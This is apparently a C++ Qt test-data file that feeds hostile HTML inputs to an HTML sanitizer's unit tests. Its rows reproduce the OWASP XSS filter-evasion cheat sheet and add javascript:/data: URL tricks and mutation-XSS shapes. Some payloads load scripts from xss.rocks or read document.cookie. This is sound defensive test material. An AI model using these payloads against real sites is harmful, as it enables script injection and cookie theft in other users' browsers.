#include "htmlsanitizer_vectors.h"

#include <QString>
#include <QTest>

namespace ichq::test {

namespace {

void row(const char *name, const char *utf8)
{
    QTest::newRow(name) << QString::fromUtf8(utf8);
}

// OWASP "XSS Filter Evasion Cheat Sheet", in the order the sheet lists them.
void addOwaspRows()
{
    row("script src", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>");
    row("img javascript quoted", "<IMG SRC=\"javascript:alert('XSS');\">");
    row("img javascript no quotes", "<IMG SRC=javascript:alert('XSS')>");
    row("img javascript case", "<IMG SRC=JaVaScRiPt:alert('XSS')>");
    row("img javascript quot entity", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>");
    row("img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>");
    row("a onmouseover", "<a onmouseover=\"alert(document.cookie)\">xxs link</a>");
    row("malformed img", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>");
    row("fromCharCode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>");
    row("img hash onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">");
    row("img empty src onmouseover", "<IMG SRC= onmouseover=\"alert('xxs')\">");
    row("img no src onmouseover", "<IMG onmouseover=\"alert('xxs')\">");
    row("img onerror", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>");
    row("onerror encoded",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
        "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">");
    row("decimal entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
        "&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>");
    row("decimal entities padded no semicolons",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
        "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
        "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>");
    row("hex entities no semicolons", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70"
                                      "&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53"
                                      "&#x53&#x27&#x29>");
    row("embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">");
    row("encoded tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">");
    row("encoded newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">");
    row("encoded carriage return", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">");
    row("spaces and meta chars", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">");
    row("non-alpha-non-digit script", "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>");
    row("body onload punctuation", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>");
    row("script slash src", "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>");
    row("extraneous open brackets", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>");
    row("no closing script tag", "<SCRIPT SRC=http://xss.rocks/xss.js?< B >");
    row("protocol resolution script", "<SCRIPT SRC=//xss.rocks/.j>");
    row("half open img", "<IMG SRC=\"`<javascript:alert>`('XSS')\"");
    row("half open img quoted", "<IMG SRC=\"javascript:alert('XSS')\"");
    row("double open angle iframe", "<iframe src=http://xss.rocks/scriptlet.html <");
    row("end title tag", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>");
    row("input image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">");
    row("body background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">");
    row("img dynsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\">");
    row("img lowsrc", "<IMG LOWSRC=\"javascript:alert('XSS')\">");
    row("list-style-image", "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}"
                            "</STYLE><UL><LI>XSS</br>");
    row("vbscript img", "<IMG SRC='vbscript:msgbox(\"XSS\")'>");
    row("body onload", "<BODY ONLOAD=alert('XSS')>");
    row("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">");
    row("ampersand javascript include", "<BR SIZE=\"&{alert('XSS')}\">");
    row("link stylesheet", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">");
    row("style import", "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>");
    row("meta refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">");
    row("meta refresh data", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
                             "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">");
    row("iframe javascript", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>");
    row("iframe event", "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>");
    row("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>");
    row("table background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TABLE>");
    row("td background", "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>");
    row("div background-image", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">");
    row("div background-image escaped",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
        "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
        "\\0053\\0027\\0029'\\0029\">x</DIV>");
    row("div expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>");
    row("img style expression", "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">");
    row("style type javascript", "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>");
    row("style class background", "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}"
                                  "</STYLE><A CLASS=XSS></A>");
    row("base tag", "<BASE HREF=\"javascript:alert('XSS');//\"><a href=\"x\">x</a>");
    row("object scriptlet",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>");
    row("embed svg data",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIw"
        "MDAvc3ZnIj48c2NyaXB0PmFsZXJ0KCJYU1MiKTs8L3NjcmlwdD48L3N2Zz4=\" type=\"image/svg+xml\" "
        "AllowScriptAccess=\"always\"></EMBED>");
    row("xml data island", "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\">"
                           "</B></I></XML><SPAN DATASRC=\"#xss\" DATAFLD=\"B\" "
                           "DATAFORMATAS=\"HTML\"></SPAN>");
    row("svg onload", "<svg/onload=alert('XSS')>");
}

// Links and images whose URL must not survive, however it is spelled.
void addUrlRows()
{
    row("a href tab entity", "<a href=\"jav&#x09;ascript:alert(1)\">click</a>");
    row("a href newline entity", "<a href=\"java&#10;script:alert(1)\">click</a>");
    row("a href leading spaces", "<a href=\"  javascript:alert(1)\">click</a>");
    row("a href leading control char", "<a href=\"\x01javascript:alert(1)\">click</a>");
    row("a href colon entity", "<a href=\"JaVaScRiPt&colon;alert(1)\">click</a>");
    row("a href first letter entity", "<a href=\"&#106;avascript:alert(1)\">click</a>");
    row("a href null entity", "<a href=\"java&#0;script:alert(1)\">click</a>");
    row("a href data base64",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>");
    row("a href file", "<a href=\"file:///etc/passwd\">passwd</a>");
    row("a href vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>");
    row("a href ftp", "<a href=\"ftp://example.com/x\">x</a>");
    row("a href ichq", "<a href=\"ichq://article/1\">x</a>");
    row("a xlink href", "<a xlink:href=\"javascript:alert(1)\">x</a>");
    row("a title breakout",
        "<a href=\"https://ok.example/\" title='\"><script>alert(1)</script>'>x</a>");
    row("a onclick target",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_blank\">ok</a>");
    row("img file", "<img src=\"file:///etc/passwd\">");
    row("img data png", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">");
    row("img srcset javascript", "<img srcset=\"javascript:alert(1) 2x\">");
    row("img data-src javascript", "<img src=\"x.gif\" data-src=\"javascript:alert(1)\">");
    row("img ichq src", "<img src=\"ichq://image/abc\">");
    row("img style class id", "<img src=\"https://e.example/a.jpg\" onerror=\"alert(1)\" "
                              "style=\"x\" class=\"c\" id=\"i\">");
    row("button formaction", "<button formaction=\"javascript:alert(1)\">X</button>");
    row("isindex", "<isindex action=\"javascript:alert(1)\" type=image>");
    row("object data javascript",
        "<object data=\"javascript:alert(1)\"><param name=src value=x></object>");
    row("video onerror", "<video src=x onerror=alert(1)><source src=y></video>");
    row("audio", "<audio src=x onerror=alert(1)></audio>");
    row("details ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>");
    row("div attributes", "<div style=\"x\" class=\"y\" id=\"z\" name=\"n\" onclick=\"a\">t</div>");
    row("unknown element onclick", "<xss onclick=alert(1)>text</xss>");
    row("picture source javascript",
        "<picture><source srcset=\"javascript:alert(1)\"><img></picture>");
}

// Shapes that re-parse differently from how a naive sanitizer parsed them.
void addMutationRows()
{
    row("noscript title",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>");
    row("svg style img", "<svg><style><img src=x onerror=alert(1)></style></svg>");
    row("math mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
    row("math textarea path", "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea>"
                              "<img onerror=alert(1) src=1>\">");
    row("form math mglyph", "<form><math><mtext></form><form><mglyph><style></math>"
                            "<img src onerror=alert(1)>");
    row("svg p style", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">");
    row("comment trick", "<!--><img src=x onerror=alert(1)>-->");
    row("comment bang", "<!--!><img src=x onerror=alert(1)>-->");
    row("textarea then img", "<textarea></textarea><img src=x onerror=alert(1)>");
    row("textarea swallow", "<textarea><img src=x onerror=alert(1)></textarea>");
    row("title swallow", "<title><img src=x onerror=alert(1)></title>");
    row("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>");
    row("template", "<template><img src=x onerror=alert(1)></template>");
    row("xmp raw text", "<xmp><img src=x onerror=alert(1)></xmp>");
    row("plaintext", "<plaintext><img src=x onerror=alert(1)>");
    row("noembed", "<noembed><img src=x onerror=alert(1)></noembed>");
    row("style in table", "<table><style><img src=x onerror=alert(1)></style></table>");
    row("nested forms", "<form><form><input onfocus=alert(1) autofocus></form>");
    row("select in table", "<table><select><option><img src=x onerror=alert(1)>");
    row("script in attribute", "<p title=\"<script>alert(1)</script>\">t</p>");
    row("entity lt", "&lt;script&gt;alert(1)&lt;/script&gt;");
}

} // namespace

void addHostileVectorRows()
{
    QTest::addColumn<QString>("input");
    addOwaspRows();
    addUrlRows();
    addMutationRows();
}

} // namespace ichq::test
